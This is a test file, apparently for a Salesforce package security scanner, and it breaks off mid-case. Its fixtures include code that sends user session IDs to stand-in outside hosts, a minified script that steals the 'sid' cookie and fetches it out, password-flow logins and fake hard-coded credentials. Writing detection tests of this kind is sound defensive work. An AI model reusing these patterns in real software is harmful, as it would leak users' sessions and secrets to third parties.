import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect } from 'chai';
import { review } from '../../src/engine/review.js';
import { openIntegrations, openPackage, packageDomain } from '../../src/package/index.js';
import { emptyPolicy } from '../support/emptyPolicy.js';
import { canary } from '../support/secrets.js';

type Files = Record<string, string>;
/** A small package (`f`) with its integration (`i`), a control (`c`), and the verdicts (`v`) or kind (`k`) it must get. */
type C = { n: string; f: Files; i?: Files; c: string; v: readonly string[]; k?: string };

const P = 'force-app/main/default';
const cls = (n: string, b: string): Files => ({
  [`${P}/classes/${n}.cls`]: b,
  [`${P}/classes/${n}.cls-meta.xml`]:
    '<?xml version="1.0" encoding="UTF-8"?><ApexClass xmlns="http://soap.sforce.com/2006/04/metadata"><apiVersion>60.0</apiVersion><status>Active</status></ApexClass>',
});
const page = (n: string, b: string): Files => ({
  [`${P}/pages/${n}.page`]: b,
  [`${P}/pages/${n}.page-meta.xml`]:
    '<?xml version="1.0" encoding="UTF-8"?><ApexPage xmlns="http://soap.sforce.com/2006/04/metadata"><apiVersion>60.0</apiVersion><label>P</label></ApexPage>',
});
const meta = (dir: string, file: string, root: string, body: string): Files => ({
  [`${P}/${dir}/${file}`]: `<?xml version="1.0" encoding="UTF-8"?><${root} xmlns="http://soap.sforce.com/2006/04/metadata">${body}</${root}>`,
});
const S = 'no-session-id-for-metadata-api';
const U = 'no-username-password-flow';
const X = 'no-secrets-in-source';
const F = 'no-session-id-from-frontdoor';
const I = 'no-implicit-flow';
const PC = 'public-clients-without-secret';
const AP = 'apps-packaged';
const B = 'broad-scopes-justified';
const SS = 'subscriber-secrets-protected';
const bad = ['fail'];
const gap = ['fail', 'inconclusive'];
const ok = ['pass', 'not-applicable'];
const res = (n: string, body: string, type = 'application/javascript'): Files => ({
  [`${P}/staticresources/${n}.js`]: body,
  ...meta(
    'staticresources',
    `${n}.resource-meta.xml`,
    'StaticResource',
    `<cacheControl>Public</cacheControl><contentType>${type}</contentType>`
  ),
});
const lwc = (n: string, js: string): Files => ({
  [`${P}/lwc/${n}/${n}.js`]: js,
  [`${P}/lwc/${n}/${n}.html`]: '<template></template>',
  ...meta(
    `lwc/${n}`,
    `${n}.js-meta.xml`,
    'LightningComponentBundle',
    '<apiVersion>60.0</apiVersion><isExposed>false</isExposed>'
  ),
});
const field = (o: string, f: string, extra = ''): Files => ({
  ...meta(
    `objects/${o}/fields`,
    `${f}.field-meta.xml`,
    'CustomField',
    `<fullName>${f}</fullName><label>L</label><length>200</length><type>Text</type>${extra}`
  ),
});
const setting = (o: string, vis = 'Public'): Files =>
  meta(
    `objects/${o}`,
    `${o}.object-meta.xml`,
    'CustomObject',
    `<customSettingsType>Hierarchy</customSettingsType><label>C</label><visibility>${vis}</visibility>`
  );
const cases: C[] = [
  {
    n: 'wrapper-getter-url',
    c: S,
    v: bad,
    f: {
      ...cls(
        'Api',
        "public class Api { public static HttpResponse call(String m, String p, String b){ HttpRequest r=new HttpRequest(); r.setMethod(m); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+p); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); if(b!=null) r.setBody(b); return new Http().send(r);} }"
      ),
      ...cls(
        'Use',
        "public class Use { void go(){ Api.call('POST','/services/data/v60.0/tooling/sobjects/ApexClass','{}'); } }"
      ),
    },
    k: 'violation',
  },
  {
    n: 'wrapper-rest-query-fine',
    c: S,
    v: ok,
    f: {
      ...cls(
        'Api',
        "public class Api { public static HttpResponse call(String p){ HttpRequest r=new HttpRequest(); r.setMethod('GET'); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+p); r.setHeader('Authorization','OAuth '+UserInfo.getSessionId()); return new Http().send(r);} }"
      ),
      ...cls(
        'Use',
        "public class Use { void go(){ Api.call('/services/data/v60.0/query?q=SELECT+Id+FROM+Account'); } }"
      ),
    },
  },
  {
    n: 'const-list-index',
    c: S,
    v: bad,
    f: {
      ...cls(
        'Paths',
        "public class Paths { public static final Map<String,String> ALL = new Map<String,String>{'flow'=>'/services/data/v61.0/tooling/sobjects/Flow/'}; }"
      ),
      ...cls(
        'Use',
        "public class Use { void go(){ HttpRequest r=new HttpRequest(); r.setMethod('GET'); r.setEndpoint(Url.getSalesforceBaseUrl().toExternalForm()+Paths.ALL.get('flow')); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
      ),
    },
  },
  {
    n: 'format-tooling',
    c: S,
    v: bad,
    f: cls(
      'Use',
      "public class Use { void go(String v){ HttpRequest r=new HttpRequest(); r.setEndpoint(String.format('{0}/services/data/v{1}/tooling/query?q={2}', new List<String>{URL.getOrgDomainUrl().toExternalForm(), v, 'x'})); r.setMethod('GET'); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
    ),
  },
  {
    n: 'switch-path',
    c: S,
    v: bad,
    f: cls(
      'Use',
      "public class Use { String p(String k){ switch on k { when 'a' { return '/services/data/v60.0/sobjects/Account'; } when else { return '/services/data/v60.0/metadata/deployRequest'; } } } void go(String k){ HttpRequest r=new HttpRequest(); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+p(k)); r.setMethod('POST'); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
    ),
  },
  {
    n: 'label-path',
    c: S,
    v: bad,
    f: {
      ...cls(
        'Use',
        "public class Use { void go(){ HttpRequest r=new HttpRequest(); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+Label.Api_Path); r.setMethod('GET'); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
      ),
      ...meta(
        'labels',
        'CustomLabels.labels-meta.xml',
        'CustomLabels',
        '<labels><fullName>Api_Path</fullName><language>en_US</language><protected>true</protected><shortDescription>p</shortDescription><value>/services/data/v60.0/tooling/query/?q=SELECT+Id+FROM+ApexClass</value></labels>'
      ),
    },
  },
  {
    n: 'remote-site-soap-wsdl',
    c: S,
    v: bad,
    f: cls(
      'MetadataService',
      "public class MetadataService { public class MetadataPort { public String endpoint_x = URL.getSalesforceBaseUrl().toExternalForm() + '/services/Soap/m/42.0'; public SessionHeader_element SessionHeader; public Object createMetadata(Object[] m){ return null; } } public class SessionHeader_element { public String sessionId; } void go(){ MetadataPort p = new MetadataPort(); p.SessionHeader = new SessionHeader_element(); p.SessionHeader.sessionId = UserInfo.getSessionId(); p.createMetadata(new Object[]{}); } }"
    ),
  },
  {
    n: 'session-to-future-third',
    c: S,
    v: bad,
    f: cls(
      'Use',
      "public class Use { @future(callout=true) static void send(String s){ HttpRequest r=new HttpRequest(); r.setEndpoint('https://api.acme.example/hook'); r.setMethod('POST'); r.setBody(JSON.serialize(new Map<String,Object>{'sid'=>s})); new Http().send(r);} static void go(){ send(UserInfo.getSessionId()); } }"
    ),
    k: 'violation',
  },
  {
    n: 'queueable-field',
    c: S,
    v: bad,
    f: cls(
      'Job',
      "public class Job implements Queueable, Database.AllowsCallouts { String token; public Job(String t){ this.token=t; } public void execute(QueueableContext c){ HttpRequest r=new HttpRequest(); r.setEndpoint('https://acme.example/x?s='+token); r.setMethod('GET'); new Http().send(r);} static void go(){ System.enqueueJob(new Job(UserInfo.getSessionId())); } }"
    ),
    k: 'violation',
  },
  {
    n: 'isblank',
    c: S,
    v: ok,
    f: cls(
      'Use',
      "public class Use { Boolean has(){ return String.isNotBlank(UserInfo.getSessionId()); } void log(){ System.debug('session? ' + (UserInfo.getSessionId() != null)); } }"
    ),
  },
  {
    n: 'length-compare',
    c: S,
    v: ok,
    f: cls(
      'Use',
      'public class Use { Integer n(){ String s = UserInfo.getSessionId(); if (s == null || s.length() < 15) { return 0; } return s.length(); } }'
    ),
  },
  {
    n: 'aura-returns-session',
    c: S,
    v: bad,
    f: cls(
      'C',
      'public with sharing class C { @AuraEnabled public static String token(){ return UserInfo.getSessionId(); } }'
    ),
  },
  {
    n: 'remoteaction-wrapper',
    c: S,
    v: bad,
    f: cls(
      'C',
      'global class C { global class W { public String s; } @RemoteAction global static W get(){ W w = new W(); w.s = UserInfo.getSessionId(); return w; } }'
    ),
  },
  {
    n: 'vf-api-session-fetch-tooling',
    c: S,
    v: bad,
    f: page(
      'T',
      '<apex:page><script>var t = "{! $Api.Session_ID }"; fetch("/services/data/v60.0/tooling/sobjects/ApexClass", {method:"POST", headers:{Authorization:"Bearer "+t}, body:"{}"});</script></apex:page>'
    ),
    k: 'violation',
  },
  {
    n: 'vf-api-session-wss-third',
    c: S,
    v: bad,
    f: page(
      'T',
      '<apex:page><script>const t = "{!GETSESSIONID()}"; const s = new WebSocket("wss://push.acme.example/?t=" + t);</script></apex:page>'
    ),
  },
  {
    n: 'vf-beacon',
    c: S,
    v: bad,
    f: page(
      'T',
      "<apex:page><script>navigator.sendBeacon('https://t.acme.example', JSON.stringify({s:'{!$Api.Session_ID}'}));</script></apex:page>"
    ),
  },
  {
    n: 'vf-outputlink',
    c: S,
    v: bad,
    f: page(
      'T',
      '<apex:page><apex:outputLink value="https://acme.example/go"><apex:param name="sid" value="{!$Api.Session_ID}"/>Go</apex:outputLink></apex:page>'
    ),
  },
  {
    n: 'vf-cometd',
    c: S,
    v: ok,
    f: page(
      'T',
      "<apex:page><script>jQuery.cometd.init({url: window.location.protocol+'//'+window.location.hostname+'/cometd/60.0/', requestHeaders: {Authorization: 'OAuth {!$Api.Session_ID}'}});</script></apex:page>"
    ),
  },
  {
    n: 'ajax-toolkit-query',
    c: S,
    v: ok,
    f: page(
      'T',
      '<apex:page><script src="../../soap/ajax/60.0/connection.js"/><script>sforce.connection.sessionId = "{!$Api.Session_ID}"; var r = sforce.connection.query("SELECT Id FROM Account");</script></apex:page>'
    ),
  },
  {
    n: 'weblink-url-third',
    c: S,
    v: bad,
    f: meta(
      'objects/Account/webLinks',
      'Open.webLink-meta.xml',
      'WebLink',
      '<fullName>Open</fullName><availability>online</availability><displayType>button</displayType><linkType>url</linkType><masterLabel>Open</masterLabel><openType>newWindow</openType><protected>false</protected><url>https://crm.acme.example/in?sid={!$Api.Session_ID}&amp;id={!Account.Id}</url>'
    ),
    k: 'violation',
  },
  {
    n: 'formula-hyperlink',
    c: S,
    v: bad,
    f: meta(
      'objects/Account/fields',
      'L__c.field-meta.xml',
      'CustomField',
      '<fullName>L__c</fullName><externalId>false</externalId><formula>HYPERLINK("https://crm.acme.example/x?s=" &amp; $Api.Session_ID, "go")</formula><label>L</label><type>Text</type>'
    ),
  },
  {
    n: 'lwc-fetch-third',
    c: S,
    v: bad,
    f: {
      ...cls('C', 'public class C { @AuraEnabled public static String getSid(){ return UserInfo.getSessionId(); } }'),
      ...lwc(
        'x',
        "import { LightningElement } from 'lwc'; import getSid from '@salesforce/apex/C.getSid'; export default class X extends LightningElement { async connectedCallback(){ const s = await getSid(); await fetch('https://acme.example/t', { headers: { Authorization: `Bearer ${s}` } }); } }"
      ),
    },
    k: 'violation',
  },
  {
    n: 'scontrol',
    c: S,
    v: bad,
    f: {
      [`${P}/scontrols/Old.scf`]: '<script>window.location="https://acme.example/?s={!API.Session_ID}";</script>',
      ...meta(
        'scontrols',
        'Old.scf-meta.xml',
        'Scontrol',
        '<contentSource>HTML</contentSource><encodingKey>UTF-8</encodingKey><name>Old</name><supportsCaching>true</supportsCaching>'
      ),
    },
  },
  {
    n: 'min-bundle-session',
    c: S,
    v: gap,
    f: res(
      'app',
      '!function(e){var t={};function n(r){return t[r]}' +
        'var a=1;'.repeat(400) +
        'e.x=document.cookie.match(/sid=([^;]+)/)[1];fetch("https://z.example/"+e.x)}(window);'
    ),
  },
  {
    n: 'flow-http',
    c: I,
    v: gap,
    f: meta(
      'objects/Account/webLinks',
      'A.webLink-meta.xml',
      'WebLink',
      '<fullName>A</fullName><availability>online</availability><displayType>button</displayType><linkType>url</linkType><masterLabel>A</masterLabel><openType>newWindow</openType><protected>false</protected><url>https://login.salesforce.com/services/oauth2/authorize?response_type=token&amp;client_id=3MVG9x&amp;redirect_uri=https://acme.example</url>'
    ),
  },
  // logins
  {
    n: 'py-simple-salesforce',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.py':
        "from simple_salesforce import Salesforce\nimport os\nsf = Salesforce(username=os.environ['U'], password=os.environ['P'], security_token=os.environ['T'])\n",
    },
  },
  {
    n: 'py-simple-salesforce-session',
    c: U,
    v: ['pass', 'inconclusive', 'not-applicable'],
    f: cls('A', 'public class A {}'),
    i: { 'a.py': 'from simple_salesforce import Salesforce\nsf = Salesforce(instance_url=url, session_id=token)\n' },
  },
  {
    n: 'js-conn-factory',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"jsforce":"^3.0.0"}}',
      'a.js':
        "const { Connection } = require('jsforce');\nfunction open() { return new Connection({ loginUrl: process.env.URL }); }\nmodule.exports = async () => { const k = open(); await k.login(process.env.U, process.env.P + process.env.T); return k; };\n",
    },
  },
  {
    n: 'js-conn-import-cross',
    c: U,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"jsforce":"^3.0.0"}}',
      'conn.js': "import jsforce from 'jsforce';\nexport const org = new jsforce.Connection({});\n",
      'a.js': "import { org } from './conn.js';\nawait org.login(process.env.U, process.env.P);\n",
    },
  },
  {
    n: 'js-conn-oauth',
    c: U,
    v: ok,
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"jsforce":"^3.0.0"}}',
      'a.js':
        "const jsforce = require('jsforce');\nconst oauth2 = new jsforce.OAuth2({ clientId: process.env.ID, clientSecret: process.env.S, redirectUri: 'https://acme.example/cb' });\nexports.cb = async (req) => { const conn = new jsforce.Connection({ oauth2 }); await conn.authorize(req.query.code); };\n",
    },
  },
  {
    n: 'ts-ftp-login',
    c: U,
    v: ok,
    f: cls('A', 'public class A {}'),
    i: {
      'a.ts':
        "import { Client } from 'basic-ftp';\nconst client = new Client();\nawait client.login('u', process.env.P);\n",
    },
  },
  {
    n: 'curl-password',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'get.sh':
        'curl -s https://login.salesforce.com/services/oauth2/token -d grant_type=password -d client_id=$ID -d client_secret=$S -d username=$U -d password=$P\n',
    },
  },
  {
    n: 'go-form',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'main.go':
        'package main\nimport ("net/http";"net/url")\nfunc login() { http.PostForm("https://login.salesforce.com/services/oauth2/token", url.Values{"grant_type": {"password"}, "username": {u}, "password": {p}}) }\n',
    },
  },
  {
    n: 'java-partner',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'A.java':
        'import com.sforce.ws.*;\nimport com.sforce.soap.partner.*;\nclass A { PartnerConnection go() throws Exception { ConnectorConfig c = new ConnectorConfig(); c.setUsername(u); c.setPassword(p); c.setAuthEndpoint("https://login.salesforce.com/services/Soap/u/60.0"); return Connector.newConnection(c); } }\n',
    },
  },
  {
    n: 'ruby-restforce',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.rb':
        "require 'restforce'\nclient = Restforce.new(username: ENV['U'], password: ENV['P'], security_token: ENV['T'], client_id: ENV['I'], client_secret: ENV['S'])\n",
    },
  },
  {
    n: 'php-soap',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.php':
        "<?php\n$c = new SforcePartnerClient();\n$c->createConnection('partner.wsdl.xml');\n$c->login($user, $pass . $token);\n",
    },
  },
  {
    n: 'cs-netcore',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.cs':
        'using Salesforce.Common;\nclass A { async Task Go() { var auth = new AuthenticationClient(); await auth.UsernamePasswordAsync(id, secret, user, pass, "https://login.salesforce.com/services/oauth2/token"); } }\n',
    },
  },
  {
    n: 'postman',
    c: U,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'c.postman_collection.json':
        '{"info":{"name":"x","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":[{"name":"t","request":{"method":"POST","url":{"raw":"https://login.salesforce.com/services/oauth2/token"},"body":{"mode":"urlencoded","urlencoded":[{"key":"grant_type","value":"password"},{"key":"username","value":"{{u}}"}]}}}]}',
    },
  },
  {
    n: 'unknown-lib',
    c: U,
    v: ['inconclusive'],
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"salesforce-magic-client":"1.0.0"}}',
      'a.js': "const sf = require('salesforce-magic-client');\nsf.connect({ user: 'a', pass: process.env.P });\n",
    },
  },
  {
    n: 'lua-unknown',
    c: U,
    v: ['fail', 'inconclusive'],
    f: cls('A', 'public class A {}'),
    i: {
      'a.lua':
        'local http = require("socket.http")\nhttp.request("https://login.salesforce.com/services/oauth2/token", "grant_type=password&username=" .. u)\n',
    },
  },
  {
    n: 'mixed-explained-elsewhere',
    c: U,
    v: ['inconclusive', 'fail'],
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"jsforce":"^3.0.0"}}',
      'jwt.js':
        "const jsforce = require('jsforce'); const conn = new jsforce.Connection({ instanceUrl, accessToken }); conn.query('SELECT Id FROM Account');\n",
      'other.js':
        "const axios = require('axios');\naxios.post(`https://${process.env.D}.my.salesforce.com/services/oauth2/token`, buildBody(process.env.SF_PASSWORD));\n",
    },
  },
  {
    n: 'no-touch',
    c: U,
    v: ok,
    f: cls('A', 'public class A {}'),
    i: { 'a.js': "console.log('hello');\n", 'package.json': '{"name":"x","dependencies":{"express":"4"}}' },
  },
  // secrets
  {
    n: 'sendgrid',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { static String k = 'SG.aBcDeFgHiJkLmNoPqRsTuV.aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789aBcDeFg'; }"
    ),
  },
  {
    n: 'slack',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { static String k = 'xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx'; }"
    ),
  },
  {
    n: 'github',
    c: X,
    v: bad,
    f: cls('A', "public class A { static String k = 'ghp_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789'; }"),
  },
  {
    n: 'basic',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { void go(HttpRequest r){ r.setHeader('Authorization','Basic ' + EncodingUtil.base64Encode(Blob.valueOf('apiuser:Tr0ub4dor&3x9'))); } }"
    ),
  },
  {
    n: 'bearer-literal',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { void go(HttpRequest r){ r.setHeader('Authorization','Bearer 8f14e45fceea167a5a36dedd4bea2543c1d2e3f4'); } }"
    ),
  },
  {
    n: 'apikey-header',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { void go(HttpRequest r){ r.setHeader('X-Api-Key','q7W8e9R0t1Y2u3I4o5P6a7S8d9F0'); } }"
    ),
  },
  {
    n: 'hmac-key',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { Blob go(String s){ return Crypto.generateMac('HmacSHA256', Blob.valueOf(s), Blob.valueOf('k3yM4t3r1alThatIsS3cret99')); } }"
    ),
  },
  {
    n: 'placeholder-ok',
    c: X,
    v: ok,
    f: cls(
      'A',
      "public class A { static String password = 'YOUR_PASSWORD_HERE'; static String hint = 'Enter your password'; static String apiKey = ''; }"
    ),
  },
  {
    n: 'uuid-ok',
    c: X,
    v: ok,
    f: cls(
      'A',
      "public class A { static String correlationId = '550e8400-e29b-41d4-a716-446655440000'; static String hash = 'd41d8cd98f00b204e9800998ecf8427e'; }"
    ),
  },
  {
    n: 'namedcred-pw',
    c: X,
    v: bad,
    f: meta(
      'namedCredentials',
      'N.namedCredential-meta.xml',
      'NamedCredential',
      '<endpoint>https://api.acme.example</endpoint><label>N</label><password>hunter2Hunter2!</password><principalType>NamedUser</principalType><protocol>Password</protocol><username>svc</username>'
    ),
  },
  {
    n: 'azure-conn',
    c: X,
    v: bad,
    f: cls(
      'A',
      "public class A { static String c = 'DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==;EndpointSuffix=core.windows.net'; }"
    ),
  },
  {
    n: 'env-integration',
    c: X,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'config.js': `module.exports = { clientId: '3MVG9abc', clientSecret: '${canary.consumerSecret}' };\n`,
    },
  },
  { n: 'setting-apikey-prod', c: SS, v: bad, f: { ...setting('Cfg__c'), ...field('Cfg__c', 'Api_Key_Live__c') } },
  { n: 'setting-webhooksecret', c: SS, v: bad, f: { ...setting('Cfg__c'), ...field('Cfg__c', 'webhooksecret__c') } },
  {
    n: 'setting-protected-ok',
    c: SS,
    v: ['pass'],
    f: { ...setting('Cfg__c', 'Protected'), ...field('Cfg__c', 'Api_Key__c') },
  },
  {
    n: 'setting-plain-ok',
    c: SS,
    v: ok,
    f: { ...setting('Cfg__c'), ...field('Cfg__c', 'Primary_Key_Field__c'), ...field('Cfg__c', 'Max_Tokens__c') },
  },
  // frontdoor
  {
    n: 'py-frontdoor',
    c: F,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.py':
        "import re, subprocess\nout = subprocess.check_output(['sf','org','open','--url-only','-o','x']).decode()\nsid = re.search(r'frontdoor\\.jsp\\?sid=([^&\\s]+)', out).group(1)\n",
    },
  },
  {
    n: 'java-frontdoor',
    c: F,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'A.java':
        'class A { String sid(String frontdoorUrl) { String u = frontdoorUrl; /* .../secur/frontdoor.jsp?sid= */ return u.substring(u.indexOf("sid=") + 4); } static final String F = "/secur/frontdoor.jsp?sid="; }\n',
    },
  },
  // public
  {
    n: 'flutter',
    c: PC,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'pubspec.yaml': 'name: x\ndependencies:\n  flutter:\n    sdk: flutter\n',
      'lib/main.dart':
        "final r = await http.post(Uri.parse('https://login.salesforce.com/services/oauth2/token'), body: {'grant_type': 'authorization_code', 'client_id': id, 'client_secret': secret, 'code': code});\n",
    },
  },
  {
    n: 'spa-secret',
    c: PC,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'index.html': '<html><script src="app.js"></script></html>',
      'app.js':
        "fetch('https://login.salesforce.com/services/oauth2/token', { method: 'POST', body: new URLSearchParams({ grant_type: 'authorization_code', code, client_id: ID, client_secret: SECRET }) });\n",
    },
  },
  {
    n: 'webserver-secret-ok',
    c: PC,
    v: ['pass', 'not-applicable', 'inconclusive'],
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"express":"4"}}',
      'server.js':
        "const express = require('express'); const app = express();\napp.get('/cb', async (req, res) => { await fetch('https://login.salesforce.com/services/oauth2/token', { method: 'POST', body: new URLSearchParams({ grant_type: 'authorization_code', code: req.query.code, client_id: process.env.I, client_secret: process.env.S, code_verifier: v }) }); res.send('ok'); });\n",
    },
  },
  // apps-packaged
  {
    n: 'jwt-node',
    c: AP,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'package.json': '{"name":"x","dependencies":{"jsonwebtoken":"9"}}',
      'a.js':
        "const jwt = require('jsonwebtoken');\nconst a = jwt.sign({ iss: id, sub: user, aud: 'https://login.salesforce.com' }, key, { algorithm: 'RS256' });\nfetch('https://login.salesforce.com/services/oauth2/token', { method: 'POST', body: `grant_type=urn:ietf:params:oauth:grant-type:jwt-bearer&assertion=${a}` });\n",
    },
  },
  {
    n: 'cc-other-vendor',
    c: AP,
    v: ok,
    f: cls(
      'A',
      "public class A { void go(){ HttpRequest r = new HttpRequest(); r.setEndpoint('https://auth.acme.example/oauth/token'); r.setMethod('POST'); r.setBody('grant_type=client_credentials&client_id=x'); new Http().send(r);} }"
    ),
  },
  {
    n: 'nc-jwt-sf',
    c: AP,
    v: gap,
    f: meta(
      'namedCredentials',
      'N.namedCredential-meta.xml',
      'NamedCredential',
      '<authTokenEndpointUrl>https://login.salesforce.com/services/oauth2/token</authTokenEndpointUrl><endpoint>https://acme.my.salesforce.com</endpoint><jwtAudience>https://login.salesforce.com</jwtAudience><jwtIssuer>3MVG9x</jwtIssuer><jwtSigningCertificate>C</jwtSigningCertificate><jwtTextSubject>u@x.example</jwtTextSubject><label>N</label><principalType>NamedUser</principalType><protocol>JwtExchange</protocol>'
    ),
  },
  {
    n: 'scope-extcred',
    c: B,
    v: gap,
    f: {
      ...meta(
        'authproviders',
        'S.authprovider-meta.xml',
        'AuthProvider',
        '<consumerKey>x</consumerKey><defaultScopes>full refresh_token</defaultScopes><developerName>S</developerName><friendlyName>S</friendlyName><providerType>Salesforce</providerType>'
      ),
    },
  },
  {
    n: 'scope-google-ok',
    c: B,
    v: ok,
    f: {
      ...meta(
        'authproviders',
        'G.authprovider-meta.xml',
        'AuthProvider',
        '<consumerKey>x</consumerKey><defaultScopes>openid full profile</defaultScopes><developerName>G</developerName><friendlyName>G</friendlyName><providerType>Google</providerType>'
      ),
    },
  },
  {
    n: 'ec-cc-sf',
    c: AP,
    v: gap,
    f: meta(
      'externalCredentials',
      'E.externalCredential-meta.xml',
      'ExternalCredential',
      '<authenticationProtocol>Oauth</authenticationProtocol><externalCredentialParameters><parameterName>Oauth</parameterName><parameterType>AuthProtocolVariant</parameterType><parameterValue>ClientCredentialsClientSecretBasic</parameterValue></externalCredentialParameters><externalCredentialParameters><parameterName>T</parameterName><parameterType>AuthProviderUrl</parameterType><parameterValue>https://acme.my.salesforce.com/services/oauth2/token</parameterValue></externalCredentialParameters><label>E</label>'
    ),
  },
  {
    n: 'ec-cc-other',
    c: AP,
    v: ok,
    f: meta(
      'externalCredentials',
      'E.externalCredential-meta.xml',
      'ExternalCredential',
      '<authenticationProtocol>Oauth</authenticationProtocol><externalCredentialParameters><parameterName>Oauth</parameterName><parameterType>AuthProtocolVariant</parameterType><parameterValue>ClientCredentialsClientSecretBasic</parameterValue></externalCredentialParameters><externalCredentialParameters><parameterName>T</parameterName><parameterType>AuthProviderUrl</parameterType><parameterValue>https://auth.acme.example/oauth2/token</parameterValue></externalCredentialParameters><label>E</label>'
    ),
  },
  {
    n: 'batch-apex-state',
    c: S,
    v: bad,
    f: cls(
      'B',
      "public class B implements Database.Batchable<SObject>, Database.AllowsCallouts, Database.Stateful { String tok; public B(){ tok = UserInfo.getSessionId(); } public Database.QueryLocator start(Database.BatchableContext c){ return Database.getQueryLocator('SELECT Id FROM Account'); } public void execute(Database.BatchableContext c, List<SObject> s){ HttpRequest r = new HttpRequest(); r.setEndpoint('https://hooks.acme.example/run'); r.setHeader('X-Token', tok); r.setMethod('POST'); new Http().send(r); } public void finish(Database.BatchableContext c){} }"
    ),
    k: 'violation',
  },
  {
    n: 'static-init-header',
    c: S,
    v: bad,
    f: cls(
      'B',
      "public class B { static final Map<String,String> H = new Map<String,String>{ 'Authorization' => 'Bearer ' + UserInfo.getSessionId() }; void go(){ HttpRequest r = new HttpRequest(); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0/tooling/sobjects/RemoteProxy'); r.setMethod('POST'); for (String k : H.keySet()) { r.setHeader(k, H.get(k)); } new Http().send(r); } }"
    ),
    k: 'violation',
  },
  {
    n: 'builder-chain',
    c: S,
    v: bad,
    f: {
      ...cls(
        'Req',
        "public class Req { String p; String m; public Req path(String x){ p = x; return this; } public Req verb(String x){ m = x; return this; } public HttpResponse send(){ HttpRequest r = new HttpRequest(); r.setMethod(m); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + p); r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId()); return new Http().send(r); } }"
      ),
      ...cls(
        'Use',
        "public class Use { void go(){ new Req().verb('POST').path('/services/data/v60.0/tooling/sobjects/ApexTrigger').send(); } }"
      ),
    },
  },
  {
    n: 'unknown-path-param',
    c: S,
    v: bad,
    k: 'justification',
    f: cls(
      'Api',
      "global class Api { global static HttpResponse call(String p){ HttpRequest r=new HttpRequest(); r.setMethod('GET'); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+'/services/data/v60.0/'+p); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); return new Http().send(r);} }"
    ),
  },
  {
    n: 'email-session',
    c: S,
    v: bad,
    f: cls(
      'M',
      "public class M { void go(){ Messaging.SingleEmailMessage m = new Messaging.SingleEmailMessage(); m.setPlainTextBody('s=' + UserInfo.getSessionId()); m.setToAddresses(new List<String>{'a@acme.example'}); Messaging.sendEmail(new List<Messaging.SingleEmailMessage>{m}); } }"
    ),
  },
  {
    n: 'platform-event',
    c: S,
    v: bad,
    f: cls('M', 'public class M { void go(){ EventBus.publish(new Audit__e(Token__c = UserInfo.getSessionId())); } }'),
  },
  {
    n: 'pageref-redirect',
    c: S,
    v: bad,
    f: cls(
      'M',
      "public class M { public PageReference go(){ PageReference p = new PageReference('https://app.acme.example/sso?sid=' + UserInfo.getSessionId()); p.setRedirect(true); return p; } }"
    ),
    k: 'violation',
  },
  {
    n: 'pageref-params',
    c: S,
    v: bad,
    f: cls(
      'M',
      "public class M { public PageReference go(){ PageReference p = new PageReference('https://app.acme.example/sso'); p.getParameters().put('sid', UserInfo.getSessionId()); return p; } }"
    ),
    k: 'violation',
  },
  {
    n: 'user-rest-ui-api',
    c: S,
    v: ok,
    f: cls(
      'M',
